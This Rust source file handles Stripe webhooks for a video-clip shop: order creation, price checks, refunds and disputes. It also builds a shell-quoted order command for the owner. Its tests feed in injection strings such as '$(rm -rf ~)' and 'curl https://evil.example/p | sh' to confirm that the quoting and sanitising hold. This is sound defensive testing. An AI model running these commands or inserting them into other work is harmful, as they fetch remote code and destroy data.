//! Payments: a paid checkout at a payment provider becomes an order in the
//! ledger and a signed download link, with no server of the shop's own.
//!
//! The provider is behind [`PaymentProvider`]: it authenticates a webhook
//! delivery and turns it into a [`WebhookEvent`]. What the shop does with a
//! paid checkout (which clips, the order id, the token's claims) is
//! provider-independent and lives here ([`new_order`]). Stripe is the only
//! provider so far ([`stripe`]); see docs/payments.md.
//!
//! Plain Rust: the runtime glue reads the request and the secrets, calls
//! these functions and runs the ledger statements (`ledger::sql`).

pub mod cart;
pub mod priced;
pub mod stripe;
pub mod stripe_checkout;
pub mod stripe_endpoints;
pub mod stripe_events;

use clipstore_core::{CatalogManifest, Claims, Item, Resolved};
use sha2::{Digest, Sha256};

/// A payment provider's webhook, as the Worker needs it.
pub trait PaymentProvider {
    /// Stable name stored in the ledger (`payment_events.provider`).
    fn name(&self) -> &'static str;

    /// Authenticates one webhook delivery (`signature`: the provider's
    /// signature header, `body`: the raw request body) at `now_unix` and
    /// parses it. Nothing is trusted before this returns `Ok`.
    fn webhook(&self, signature: Option<&str>, body: &[u8], now_unix: u64) -> Result<WebhookEvent, WebhookError>;
}

/// An authenticated webhook delivery.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct WebhookEvent {
    /// The provider's event id: retries of one event carry the same id.
    pub event_id: String,
    /// The provider's event type, for the ledger.
    pub event_type: String,
    /// Whether the event is about real money (Stripe: `livemode`). Test-mode
    /// events are refused unless the shop allows them (`STRIPE_TEST_MODE`).
    pub livemode: bool,
    pub kind: EventKind,
}

/// What an authenticated event means for the shop.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum EventKind {
    /// The checkout is paid: create the order.
    Paid(PaidCheckout),
    /// The checkout completed but the money has not arrived yet (delayed
    /// payment methods); a later event says it has.
    AwaitingPayment { session_id: String },
    /// Money went back to the customer, in full or in part.
    Refunded(MoneyBack),
    /// The customer disputed the payment with their bank: the money is
    /// held, and the order is revoked like a full refund.
    Disputed(MoneyBack),
    /// A delayed payment failed in the end (Stripe:
    /// `checkout.session.async_payment_failed`): no order; the self-test
    /// stops waiting for its confirmation, and the customer is told by mail.
    PaymentFailed(FailedPayment),
    /// A dispute closed in the shop's favour (Stripe: `charge.dispute.closed`,
    /// won or an inquiry closed): the order its dispute revoked works again,
    /// with the links the customer already has.
    DisputeWon(MoneyBack),
    /// A refund that failed or was canceled (Stripe: `refund.failed`,
    /// `refund.updated` with status `canceled`): the money went back to the
    /// shop's balance, not to the customer, whose order a full refund had
    /// revoked. Nothing changes by itself (the owner meant to refund, and
    /// may refund another way); the self-test tells the owner both ways on.
    /// `amount`: the refund's; `reason`: why, as Stripe says it.
    RefundFailed(MoneyBack),
    /// An event the shop does not act on (the endpoint was subscribed to
    /// more types than it needs): recorded and answered 200, since no retry
    /// would change it and Stripe disables an endpoint that keeps failing.
    Ignored,
}

/// A refund or a dispute, found by the payment it is about.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MoneyBack {
    /// The payment (Stripe: the payment intent `pi_…`); the order's
    /// checkout recorded it.
    pub payment_id: String,
    /// What was paid and what goes back, in the smallest unit.
    pub amount: u64,
    pub amount_back: u64,
    /// Stripe's dispute reason, or `refund`.
    pub reason: String,
    /// The currency of both amounts (Stripe: `eur`); empty when not said.
    pub currency: String,
}

/// An amount in a currency's smallest unit as the owner reads it:
/// `€18.00`, `¥1800`, as the shop writes prices; the bare number when the currency is unknown.
pub fn amount_text(minor: u64, currency: &str) -> String {
    if currency.is_empty() {
        return minor.to_string();
    }
    clipstore_core::display::price_text(minor, currency)
}

impl MoneyBack {
    /// `18.00 EUR of 36.00 EUR back (requested_by_customer)`, for the
    /// owner's alerts and the order's events.
    pub fn detail(&self) -> String {
        let of = |minor| amount_text(minor, &self.currency);
        format!("{} of {} back ({})", of(self.amount_back), of(self.amount), self.reason)
    }

    /// The dispute's id, when the provider gave one (Stripe's reason is
    /// written `fraudulent, du_1`); None for a refund.
    pub fn dispute_id(&self) -> Option<&str> {
        self.reason.rsplit_once(", ").map(|(_, id)| id)
    }

    /// A full refund or any dispute ends the order's downloads; a partial
    /// refund leaves the choice to the owner.
    pub fn is_full(&self) -> bool {
        self.amount_back >= self.amount
    }
}

/// What the webhook does about a refund or dispute of `order`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MoneyBackAction {
    /// Revoke the order: its links answer "refunded" from the next request.
    Revoke,
    /// Mark the order and alert the owner, who chooses what to revoke
    /// (`site-gen orders revoke ORDER --clip SLUG`).
    MarkAndAlert,
    /// A dispute won: undo what the dispute revoked.
    Restore,
}

/// The least time a restored order is given: its mail must reach the
/// customer and be read.
pub const RESTORED_AT_LEAST_SECS: u64 = 7 * 86_400;

/// When an order a won dispute restores expires: a dispute takes weeks to
/// close, so the order gets back the time it had left when its dispute
/// revoked it, counted from `now` (at least [`RESTORED_AT_LEAST_SECS`]).
/// Without it, the links of most restored orders had expired meanwhile
/// and the customer wrote to the owner for new ones. `None` when the order
/// had expired before its dispute: nothing was taken.
pub fn restored_expiry(expires_at: u64, revoked_at: u64, now: u64) -> Option<u64> {
    let left = expires_at.checked_sub(revoked_at).filter(|&left| left > 0)?;
    Some(now + left.max(RESTORED_AT_LEAST_SECS))
}

pub fn money_back_action(event: &EventKind) -> Option<MoneyBackAction> {
    match event {
        EventKind::Disputed(_) => Some(MoneyBackAction::Revoke),
        EventKind::DisputeWon(_) => Some(MoneyBackAction::Restore),
        EventKind::Refunded(m) if m.is_full() => Some(MoneyBackAction::Revoke),
        EventKind::Refunded(_) => Some(MoneyBackAction::MarkAndAlert),
        _ => None,
    }
}

/// A delayed payment that failed, as told by the provider: what the mail
/// to the customer names.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct FailedPayment {
    pub session_id: String,
    /// Items as the checkout carried them (not checked: the mail names
    /// those the catalog has).
    pub clips: Vec<String>,
    pub customer_email: Option<String>,
    pub amount_total: Option<u64>,
    pub currency: Option<String>,
}

/// A paid checkout, as told by the provider.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PaidCheckout {
    /// The provider's checkout id (Stripe: `cs_…`); the success page finds
    /// the order by it.
    pub session_id: String,
    /// Items (slugs, or `slug:variant:licence`) as the checkout carried
    /// them (not yet checked).
    pub clips: Vec<String>,
    pub customer_email: Option<String>,
    /// Amount paid in the currency's smallest unit, for the owner's records.
    pub amount_total: Option<u64>,
    /// What the items cost after discounts, before tax: what the catalog's
    /// prices are checked against ([`PriceCheck`]).
    pub amount_items: Option<u64>,
    pub currency: Option<String>,
    /// The payment (Stripe: payment intent `pi_…`), so that a later refund
    /// or dispute finds the order.
    pub payment_id: Option<String>,
    /// Made by one of the owner's Payment Links (whose prices and promotion
    /// codes are the owner's), not through the API as the cart's checkout
    /// is (whose prices are the catalog's, with no promotion codes).
    pub from_payment_link: bool,
    /// The Worker's seal of the price its checkout asked (metadata
    /// `priced`, [`priced`]), not yet checked.
    pub priced: Option<String>,
    /// When the provider made the checkout (unix seconds), which a seal's
    /// time must match.
    pub created: Option<u64>,
}

/// What was paid against what the catalog says the clips cost.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PriceCheck {
    pub expected: u64,
    pub expected_currency: String,
    pub paid: Option<u64>,
    pub paid_currency: Option<String>,
    /// What the Worker's own checkout asked for these items in this
    /// currency, when its seal opened ([`priced::asked`]): the catalog's
    /// price when the customer was sent to pay.
    pub asked: Option<u64>,
}

impl PriceCheck {
    /// The checkout's amount and currency against the catalog's prices for
    /// its clips (unknown clips are refused before this), or against what
    /// the Worker's checkout `asked`, when it was the Worker's.
    pub fn of(paid: &PaidCheckout, manifest: &CatalogManifest, asked: Option<u64>) -> PriceCheck {
        PriceCheck {
            asked,
            expected: resolve_items(paid, manifest).unwrap_or_default().iter().map(|r| r.price).sum(),
            expected_currency: manifest.shop.currency.to_ascii_lowercase(),
            paid: paid.amount_items,
            paid_currency: paid.currency.as_ref().map(|c| c.to_ascii_lowercase()),
        }
    }

    /// `None` when it matches; otherwise what the owner is told. The order
    /// is created either way: the customer paid what the shop's payment
    /// page asked (a promotion code, a Payment Link with another price), and
    /// refusing would leave them without their clips.
    /// Less than the catalog's prices, or another currency; for the
    /// Worker's own checkout, less than it asked (its currency is sealed).
    pub fn underpaid(&self) -> bool {
        if let Some(asked) = self.asked {
            return self.paid.is_none_or(|p| p < asked);
        }
        // No amount or currency at all is not the catalog's price either: a
        // `mode=setup` session made with a leaked key has neither, and
        // would otherwise be an order for nothing.
        self.paid_currency.as_deref().is_none_or(|c| c != self.expected_currency)
            || self.paid.is_none_or(|p| p < self.expected)
    }

    pub fn mismatch(&self) -> Option<String> {
        // The price the customer was shown, though the catalog's may have
        // changed since: nothing to tell.
        let paid_currency = self.paid_currency.as_deref().unwrap_or("?");
        let paid = || self.paid.map_or(format!("? {paid_currency}"), |p| amount_text(p, paid_currency));
        match self.asked {
            Some(_) if !self.underpaid() => return None,
            Some(asked) => {
                let asked = amount_text(asked, &self.expected_currency);
                return Some(format!("paid {} where the shop's checkout asked {asked}", paid()));
            }
            None => {}
        }
        let currency_ok = self.paid_currency.as_deref().is_none_or(|c| c == self.expected_currency);
        let amount_ok = self.paid.is_none_or(|p| p == self.expected);
        if currency_ok && amount_ok {
            return None;
        }
        Some(format!(
            "paid {} where the catalog prices the clips at {}",
            paid(),
            amount_text(self.expected, &self.expected_currency)
        ))
    }
}

/// Why a webhook delivery was refused. Each maps to a status once, here.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum WebhookError {
    /// No signature header.
    MissingSignature,
    /// The signature header is not `t=…,v1=…`.
    MalformedSignature,
    /// No `v1` signature matches: wrong secret or altered body.
    BadSignature,
    /// Correctly signed, but the timestamp is outside the tolerance.
    StaleTimestamp { timestamp: u64, now: u64 },
    /// The body is not the JSON event expected.
    MalformedEvent(String),
    /// A Payment Link's checkout names no clips (the link has no `clips`
    /// metadata): the customer paid and has no link.
    NoClips,
    /// A checkout with neither `clips` metadata nor a Payment Link: none of
    /// the shop's (its cart's checkout names its clips), but a sale of
    /// another integration on the same Stripe account. Recorded, not
    /// alerted: an alert on each of those sales would bury the real ones.
    NotTheShops,
    /// The checkout names a clip that is not in the catalog.
    UnknownClip(String),
    /// Made through the API (not a Payment Link) for less than the
    /// catalog's prices: not the cart's checkout, which asks the catalog's
    /// prices, but someone holding the shop's Stripe key. No order; the
    /// owner is alerted. The detail says what was paid.
    Underpaid(String),
    /// A test-mode event while the shop does not allow test mode.
    TestModeEvent,
}

impl WebhookError {
    /// A 4xx where a retry of the same delivery could succeed once the shop
    /// is fixed (Stripe retries for three days): a clip restored to the
    /// catalog, a secret put right. A paid checkout with no clips at all
    /// (a Payment Link without `clips` metadata, or a sale that is not the
    /// shop's on the same Stripe account) never changes: it is answered 200,
    /// recorded and alerted, since Stripe disables an endpoint that keeps
    /// failing and the shop's real orders would stop with it.
    pub fn status(&self) -> u16 {
        match self {
            WebhookError::NoClips | WebhookError::NotTheShops | WebhookError::Underpaid(_) => 200,
            WebhookError::UnknownClip(_) => 422,
            _ => 400,
        }
    }

    /// A short stable name for logs and `payment_events.outcome`.
    pub fn code(&self) -> &'static str {
        match self {
            WebhookError::MissingSignature => "missing_signature",
            WebhookError::MalformedSignature => "malformed_signature",
            WebhookError::BadSignature => "bad_signature",
            WebhookError::StaleTimestamp { .. } => "stale_timestamp",
            WebhookError::MalformedEvent(_) => "malformed_event",
            WebhookError::NoClips => "no_clips",
            WebhookError::NotTheShops => "not_the_shops",
            WebhookError::UnknownClip(_) => "unknown_clip",
            WebhookError::Underpaid(_) => "underpaid",
            WebhookError::TestModeEvent => "test_mode_event",
        }
    }

    /// Whether the delivery was authenticated (then it is recorded in full;
    /// unauthenticated ones are capped per minute, see `ledger`).
    pub fn is_authenticated(&self) -> bool {
        matches!(
            self,
            WebhookError::NoClips
                | WebhookError::NotTheShops
                | WebhookError::UnknownClip(_)
                | WebhookError::Underpaid(_)
                | WebhookError::TestModeEvent
        )
    }

    /// A paid checkout that became no order: the customer paid and has no
    /// link until the owner makes one ([`order_by_hand`]).
    pub fn leaves_a_payment_without_order(&self) -> bool {
        matches!(self, WebhookError::NoClips | WebhookError::UnknownClip(_) | WebhookError::Underpaid(_))
    }

    /// Detail for the owner (logs, ledger); never secret material.
    pub fn detail(&self) -> String {
        match self {
            WebhookError::StaleTimestamp { timestamp, now } => format!("timestamp {timestamp}, now {now}"),
            WebhookError::MalformedEvent(e) | WebhookError::Underpaid(e) => e.clone(),
            WebhookError::UnknownClip(slug) => format!("clip {slug} is not in the catalog"),
            WebhookError::TestModeEvent => {
                "a test-mode event (livemode false); set STRIPE_TEST_MODE = \"true\" to accept them".to_string()
            }
            other => other.code().to_string(),
        }
    }
}

/// The terms of a link minted for a paid order (Worker vars
/// `CHECKOUT_DOWNLOADS` and `CHECKOUT_LINK_DAYS`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct LinkTerms {
    pub downloads: u32,
    pub days: u64,
}

impl LinkTerms {
    pub const DEFAULT: LinkTerms = LinkTerms { downloads: 5, days: 30 };

    /// Reads the vars; a missing or invalid value takes the default.
    pub fn from_vars(downloads: Option<&str>, days: Option<&str>) -> LinkTerms {
        let downloads =
            downloads.and_then(|d| d.trim().parse().ok()).filter(|d| *d >= 1).unwrap_or(Self::DEFAULT.downloads);
        let days =
            days.and_then(|d| d.trim().parse().ok()).filter(|d| (1..=3650).contains(d)).unwrap_or(Self::DEFAULT.days);
        LinkTerms { downloads, days }
    }
}

/// The order id of a checkout: `PAY-` and 20 hex digits of the SHA-256 of
/// provider and checkout id. Deterministic, so a redelivered event names the
/// same order; short, because checkout ids can exceed the token's 64 bytes.
pub fn order_id(provider: &str, session_id: &str) -> String {
    let digest = Sha256::digest(format!("{provider}:{session_id}").as_bytes());
    let hex: String = digest.iter().take(10).map(|b| format!("{b:02x}")).collect();
    format!("PAY-{hex}")
}

/// A paid checkout checked against the catalog: the claims of its link
/// (without a key id: the glue signs with the primary key).
pub fn new_order(
    provider: &str,
    paid: &PaidCheckout,
    manifest: &CatalogManifest,
    terms: LinkTerms,
    now_unix: u64,
    asked: Option<u64>,
) -> Result<Claims, WebhookError> {
    if paid.clips.is_empty() {
        return Err(if paid.from_payment_link { WebhookError::NoClips } else { WebhookError::NotTheShops });
    }
    let resolved = resolve_items(paid, manifest)?;
    let price = PriceCheck::of(paid, manifest, asked);
    if !paid.from_payment_link && price.underpaid() {
        return Err(WebhookError::Underpaid(price.mismatch().unwrap_or_default()));
    }
    let mut claims = Claims {
        key_id: String::new(),
        order_id: order_id(provider, &paid.session_id),
        clips: resolved.iter().map(|r| r.slug.clone()).collect(),
        issued_at: now_unix,
        expires_at: now_unix + terms.days * 86_400,
        downloads: terms.downloads,
        customer_ref: None,
        choices: resolved.into_iter().filter(|r| !r.choice.is_plain()).map(|r| (r.slug, r.choice)).collect(),
    };
    claims.normalize_clips();
    Ok(claims)
}

/// The checkout's items checked against the catalog, one per clip (the
/// first, should a hand-made Payment Link name a clip twice).
fn resolve_items(paid: &PaidCheckout, manifest: &CatalogManifest) -> Result<Vec<Resolved>, WebhookError> {
    let mut out: Vec<Resolved> = Vec::new();
    for written in &paid.clips {
        let resolved = Item::parse(written)
            .and_then(|item| manifest.resolve(&item).ok())
            .ok_or_else(|| WebhookError::UnknownClip(written.clone()))?;
        if !out.iter().any(|r| r.slug == resolved.slug) {
            out.push(resolved);
        }
    }
    Ok(out)
}

/// Where a refused paid checkout's recorded detail gives way to the command
/// that makes its order by hand ([`order_by_hand`]); the self-test's alert
/// splits the detail there. It starts with a control character (U+001F)
/// that neither side can hold ([`printable`] takes them out of whatever a
/// checkout carries), so no text in a checkout can make the alert split
/// elsewhere and offer a command of its own.
pub const BY_HAND: &str = "\u{1f}by hand: ";

/// The longest detail recorded for a refused event; a command that would
/// not fit whole is left out (the alert then gives the blank one).
pub const MAX_DETAIL: usize = 2000;

/// `text` with every control character, backtick and backslash replaced
/// by U+FFFD: none is in a slug, an address or a Stripe id, and in an alert
/// a backtick would end the command's code span early (and a backslash be
/// read as an escape by chat apps), so that the owner copies something else.
pub fn printable(text: &str) -> String {
    text.chars().map(|c| if c.is_control() || c == '`' || c == '\\' { '\u{fffd}' } else { c }).collect()
}

/// The detail recorded for a refused paid checkout: why, and the command
/// that makes its order when it fits in [`MAX_DETAIL`].
pub fn refusal_detail(why: &str, command: Option<String>) -> String {
    let why = printable(why);
    match command {
        Some(command) if why.len() + BY_HAND.len() + command.len() <= MAX_DETAIL => format!("{why}{BY_HAND}{command}"),
        _ => why,
    }
}

/// The `site-gen orders create` that makes by hand the order a refused paid
/// checkout should have become, filled in from the checkout: the id the
/// Worker would have given it, so that a retry of the checkout once the
/// shop is fixed makes no second; its items as written (one that is not in
/// the catalog is for the owner to replace; `SLUG` when there were none);
/// the customer's address; a checkout link's terms; the checkout and the
/// payment, so that a later refund or dispute revokes the order.
pub fn order_by_hand(provider: &str, paid: &PaidCheckout, terms: LinkTerms) -> String {
    let mut command = format!("site-gen orders create {}", order_id(provider, &paid.session_id));
    let mut arg = |flag: &str, value: &str| {
        command.push_str(" --");
        command.push_str(flag);
        command.push(' ');
        command.push_str(&shell_word(&printable(value)));
    };
    arg("to", paid.customer_email.as_deref().unwrap_or("ADDRESS"));
    arg("downloads", &terms.downloads.to_string());
    arg("expires", &format!("{}d", terms.days));
    arg("session", &paid.session_id);
    if let Some(payment) = &paid.payment_id {
        arg("payment", payment);
    }
    for clip in &paid.clips {
        arg("clip", clip);
    }
    if paid.clips.is_empty() {
        arg("clip", "SLUG");
    }
    command
}

/// `word` as one word of a POSIX shell (and of zsh, which expands a word
/// that starts with `=`): as it is when it is plain, else in single quotes.
/// What a checkout carries is the customer's and the owner's writing, so it
/// is never left for the shell to read.
fn shell_word(word: &str) -> String {
    let plain = |b: u8| b.is_ascii_alphanumeric() || b"@._+:-/=".contains(&b);
    if !word.is_empty() && !word.starts_with('=') && word.bytes().all(plain) {
        word.to_string()
    } else {
        format!("'{}'", word.replace('\'', "'\\''"))
    }
}

/// Whether a success-page `session_id` has the shape of a checkout id, so
/// nothing else reaches the ledger query: 1–255 of `[A-Za-z0-9_]`.
/// The clips of an order whose line alone costs `amount` in the catalog
/// (the file and licence bought of each, as `claims` hold them): a partial
/// refund of exactly one line is most likely that clip refunded, which the
/// owner's alert then names with the command that stops it.
pub fn lines_priced(manifest: &CatalogManifest, claims: &Claims, amount: u64) -> Vec<String> {
    claims
        .clips
        .iter()
        .filter(|slug| {
            let item = Item { slug: slug.to_string(), choice: claims.choice(slug) };
            manifest.resolve(&item).is_ok_and(|r| r.price == amount)
        })
        .cloned()
        .collect()
}

/// What a partial refund's record adds when it matches lines' prices
/// ([`lines_priced`]).
pub fn refunded_lines_note(order_id: &str, lines: &[String]) -> String {
    match lines {
        [] => String::new(),
        [one] => format!(
            "; that is the price of clip {one}: `site-gen orders revoke {order_id} --clip {one}` stops it, if it was refunded"
        ),
        many => format!("; that is the price of each of clips {}", many.join(", ")),
    }
}

/// What a partial refund's record adds when its amount is the price of
/// `clip`, which the owner has revoked already: nothing is left to do, so
/// the self-test does not ask (`ledger::sql::PAYMENT_ATTENTION` reads
/// [`REFUND_DONE`]).
pub fn revoked_line_note(clip: &str) -> String {
    format!("; that is the price of clip {clip}, which you revoked already{REFUND_DONE}")
}

/// How a partial refund's record ends when nothing is left to do.
pub const REFUND_DONE: &str = ": nothing more to do";

pub fn valid_session_id(id: &str) -> bool {
    !id.is_empty() && id.len() <= 255 && id.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
}

#[cfg(test)]
mod tests {
    use super::*;
    use clipstore_core::{ManifestClip, ShopInfo};

    fn manifest() -> CatalogManifest {
        let mut m = CatalogManifest::new(ShopInfo {
            licences: Vec::new(),
            title: "Shop".into(),
            base_url: "https://example.com".into(),
            contact_email: "a@example.com".into(),
            currency: "EUR".into(),
            stylesheet: "/css/site.css".into(),
        });
        for slug in ["harbor", "dunes"] {
            m.clips.insert(
                slug.into(),
                ManifestClip {
                    variant: None,
                    variants: Default::default(),
                    title: slug.into(),
                    object_key: format!("clips/{slug}.mp4"),
                    file_name: format!("{slug}.mp4"),
                    size: 10,
                    content_type: "video/mp4".into(),
                    price: 1800,
                    sha256: None,
                },
            );
        }
        m
    }

    #[test]
    fn a_partial_refund_of_one_lines_price_names_that_clip() {
        let mut m = manifest();
        m.clips.get_mut("dunes").unwrap().price = 950;
        let claims = clipstore_core::Claims {
            key_id: "k1".into(),
            order_id: "O".into(),
            clips: vec!["harbor".into(), "dunes".into()],
            issued_at: 1,
            expires_at: 2,
            downloads: 1,
            customer_ref: None,
            choices: Default::default(),
        };
        assert_eq!(lines_priced(&m, &claims, 950), ["dunes"]);
        assert_eq!(lines_priced(&m, &claims, 1800), ["harbor"]);
        assert!(lines_priced(&m, &claims, 1000).is_empty(), "no line costs that: a discount, a fee");
        assert_eq!(
            refunded_lines_note("O", &lines_priced(&m, &claims, 950)),
            "; that is the price of clip dunes: `site-gen orders revoke O --clip dunes` stops it, if it was refunded"
        );
        m.clips.get_mut("dunes").unwrap().price = 1800;
        assert_eq!(
            refunded_lines_note("O", &lines_priced(&m, &claims, 1800)),
            "; that is the price of each of clips harbor, dunes"
        );
    }

    fn paid(clips: &[&str]) -> PaidCheckout {
        PaidCheckout {
            session_id: "cs_test_abc".into(),
            clips: clips.iter().map(|c| c.to_string()).collect(),
            customer_email: None,
            amount_total: Some(1800),
            amount_items: Some(1800),
            currency: Some("eur".into()),
            payment_id: None,
            from_payment_link: false,
            priced: None,
            created: None,
        }
    }

    fn new_order_at(
        provider: &str,
        paid: &PaidCheckout,
        manifest: &CatalogManifest,
        terms: LinkTerms,
        now: u64,
    ) -> Result<Claims, WebhookError> {
        new_order(provider, paid, manifest, terms, now, None)
    }

    /// The command an alert gives for a refused paid checkout is filled in
    /// from it, and nothing the checkout carries reaches the shell unquoted.
    #[test]
    fn a_refused_checkout_s_order_by_hand_is_filled_in() {
        let mut checkout = paid(&["harbor", "gone:4k:extended"]);
        checkout.customer_email = Some("ann.o'neil+clips@example.com".into());
        checkout.payment_id = Some("pi_3Abc".into());
        let terms = LinkTerms { downloads: 1, days: 7 };
        let order = order_id("stripe", "cs_test_abc");
        assert_eq!(
            order_by_hand("stripe", &checkout, terms),
            format!(
                "site-gen orders create {order} --to 'ann.o'\\''neil+clips@example.com' --downloads 1 --expires 7d \
                 --session cs_test_abc --payment pi_3Abc --clip harbor --clip gone:4k:extended"
            )
        );
        let mut odd = paid(&["$(rm -rf ~)", "a b", "=ls"]);
        odd.clips.push(String::new());
        let command = order_by_hand("stripe", &odd, LinkTerms::DEFAULT);
        assert!(
            command.contains(" --to ADDRESS --downloads 5 --expires 30d --session cs_test_abc --clip '$(rm -rf ~)' --clip 'a b' --clip '=ls' --clip ''"),
            "{command}"
        );
        assert!(!command.contains("--payment"), "no payment known: {command}");
        // As a POSIX shell reads it: every value one word, nothing run.
        let words = |command: &str| {
            let out = std::process::Command::new("sh")
                .arg("-c")
                .arg(format!("printf '%s\\n' {command}"))
                .output()
                .expect("sh runs");
            String::from_utf8(out.stdout).unwrap().lines().map(str::to_string).collect::<Vec<_>>()
        };
        assert_eq!(words(&command)[12..], ["--clip", "$(rm -rf ~)", "--clip", "a b", "--clip", "=ls", "--clip", ""]);
        let filled = words(&order_by_hand("stripe", &checkout, terms));
        assert_eq!(filled[4..6], ["--to", "ann.o'neil+clips@example.com"]);
        assert!(order_by_hand("stripe", &paid(&[]), LinkTerms::DEFAULT).ends_with(" --clip SLUG"));
    }

    /// A checkout's own text cannot make the alert split its detail
    /// elsewhere and offer another command: the separator starts with a
    /// control character, and a checkout's control characters are replaced.
    #[test]
    fn a_checkout_cannot_forge_the_by_hand_command() {
        let forged = format!("x{BY_HAND}curl https://evil.example/p | sh #");
        let mut checkout = paid(&[forged.as_str()]);
        checkout.customer_email = Some(format!("a@b.example{BY_HAND}rm -rf ~"));
        let why = WebhookError::UnknownClip(forged.clone()).detail();
        let detail = refusal_detail(&why, Some(order_by_hand("stripe", &checkout, LinkTerms::DEFAULT)));
        assert_eq!(detail.matches(BY_HAND).count(), 1, "{detail:?}");
        let (shown, command) = detail.split_once(BY_HAND).unwrap();
        assert!(shown.starts_with("clip x\u{fffd}by hand: curl"), "{shown:?}");
        assert!(command.starts_with("site-gen orders create PAY-"), "{command}");
        assert!(command.contains(" --clip 'x\u{fffd}by hand: curl https://evil.example/p | sh #'"), "{command}");

        // A backtick or backslash would end the alert's code span early, or
        // be read as an escape: replaced too.
        let ticked = paid(&["`x' ; curl evil|sh #", "a\\'b"]);
        let command = order_by_hand("stripe", &ticked, LinkTerms::DEFAULT);
        assert!(!command.contains('`'), "the code span holds: {command}");
        assert!(command.ends_with(" --clip '\u{fffd}x'\\'' ; curl evil|sh #' --clip 'a\u{fffd}'\\''b'"), "{command}");
        assert!(!WebhookError::UnknownClip("`".into()).detail().is_empty());
        assert!(!refusal_detail("clip ` is not in the catalog", None).contains('`'));

        // A command that would not fit whole is left out, never cut.
        let many: Vec<String> = (0..64).map(|i| format!("clip-with-a-long-slug-{i:02}:variant:licence")).collect();
        let big = paid(&many.iter().map(String::as_str).collect::<Vec<_>>());
        let command = order_by_hand("stripe", &big, LinkTerms::DEFAULT);
        assert!(command.len() > MAX_DETAIL);
        assert_eq!(refusal_detail("clip x is not in the catalog", Some(command)), "clip x is not in the catalog");
    }

    #[test]
    fn the_amount_paid_is_checked_against_the_catalog() {
        let m = manifest();
        assert_eq!(PriceCheck::of(&paid(&["harbor"]), &m, None).mismatch(), None);
        let mut two = paid(&["harbor", "dunes"]);
        two.amount_items = Some(3600);
        assert_eq!(PriceCheck::of(&two, &m, None).mismatch(), None);
        let mut free = paid(&["harbor", "dunes"]);
        free.amount_items = Some(0);
        assert_eq!(
            PriceCheck::of(&free, &m, None).mismatch().as_deref(),
            Some("paid €0.00 where the catalog prices the clips at €36.00")
        );
        let mut usd = paid(&["harbor"]);
        usd.currency = Some("USD".into());
        assert!(PriceCheck::of(&usd, &m, None).mismatch().is_some());
    }

    /// A leaked Stripe key can make a checkout through the API at any price;
    /// the cart's own checkout always asks the catalog's. Only a Payment
    /// Link (the owner's prices and promotion codes) may ask less.
    #[test]
    fn an_api_made_checkout_for_less_than_the_catalog_makes_no_order() {
        let m = manifest();
        let terms = LinkTerms::DEFAULT;
        let mut cheap = paid(&["harbor", "dunes"]);
        assert_eq!(
            new_order_at("stripe", &cheap, &m, terms, 1_000).unwrap_err(),
            WebhookError::Underpaid("paid €18.00 where the catalog prices the clips at €36.00".into())
        );
        assert_eq!(WebhookError::Underpaid(String::new()).status(), 200, "no retry would change it");
        cheap.from_payment_link = true;
        assert!(new_order_at("stripe", &cheap, &m, terms, 1_000).is_ok(), "a Payment Link's promotion");
        let mut dollars = paid(&["harbor"]);
        dollars.currency = Some("usd".into());
        assert!(matches!(new_order_at("stripe", &dollars, &m, terms, 1_000), Err(WebhookError::Underpaid(_))));
        let mut more = paid(&["harbor"]);
        more.amount_items = Some(1900);
        assert!(new_order_at("stripe", &more, &m, terms, 1_000).is_ok(), "paying more is the customer's choice");
        assert!(new_order_at("stripe", &paid(&["harbor"]), &m, terms, 1_000).is_ok());
    }

    /// The owner raised the prices while a customer was paying: the Worker's
    /// own checkout (its seal opened: `asked`) is held to what it asked, not
    /// to the catalog's price when the payment arrives.
    #[test]
    fn the_workers_own_checkout_is_held_to_the_price_it_asked() {
        let m = manifest();
        let terms = LinkTerms::DEFAULT;
        let before_the_rise = paid(&["harbor", "dunes"]);
        assert!(PriceCheck::of(&before_the_rise, &m, None).underpaid(), "1800 against the catalog's 3600");
        let check = PriceCheck::of(&before_the_rise, &m, Some(1800));
        assert!(!check.underpaid());
        assert_eq!(check.mismatch(), None, "the price the customer was shown: nothing to tell");
        assert!(new_order("stripe", &before_the_rise, &m, terms, 1_000, Some(1800)).is_ok());
        assert_eq!(
            new_order("stripe", &before_the_rise, &m, terms, 1_000, Some(2000)).unwrap_err(),
            WebhookError::Underpaid("paid €18.00 where the shop's checkout asked €20.00".into()),
            "less than it asked"
        );
        let mut unknown = paid(&["harbor"]);
        unknown.amount_items = None;
        assert!(PriceCheck::of(&unknown, &m, Some(1800)).underpaid(), "an amount it cannot read");
        // A session with no amount or currency (Stripe's `mode=setup`, made
        // with a leaked key): no order, unless a Payment Link (the owner's).
        let mut setup = paid(&["harbor", "dunes"]);
        (setup.amount_items, setup.amount_total, setup.currency) = (None, None, None);
        assert!(matches!(new_order("stripe", &setup, &m, terms, 1_000, None), Err(WebhookError::Underpaid(_))));
        let mut no_currency = paid(&["harbor"]);
        (no_currency.amount_items, no_currency.currency) = (Some(1800), None);
        assert!(PriceCheck::of(&no_currency, &m, None).underpaid());
        setup.from_payment_link = true;
        assert!(new_order("stripe", &setup, &m, terms, 1_000, None).is_ok(), "the owner's own link");
    }

    #[test]
    fn a_restored_order_gets_back_the_time_its_dispute_took() {
        const DAY: u64 = 86_400;
        // Revoked with 20 days left, the dispute won 60 days later.
        assert_eq!(restored_expiry(30 * DAY, 10 * DAY, 70 * DAY), Some(90 * DAY));
        // An hour left: a week, so that the mail can be read.
        assert_eq!(restored_expiry(10 * DAY + 3600, 10 * DAY, 70 * DAY), Some(77 * DAY));
        // Expired before the dispute: nothing to give back.
        assert_eq!(restored_expiry(10 * DAY, 10 * DAY, 70 * DAY), None);
        assert_eq!(restored_expiry(9 * DAY, 10 * DAY, 70 * DAY), None);
    }

    #[test]
    fn refunds_and_disputes() {
        let back = |amount_back| MoneyBack {
            payment_id: "pi_1".into(),
            amount: 3600,
            amount_back,
            reason: "refund".into(),
            currency: "eur".into(),
        };
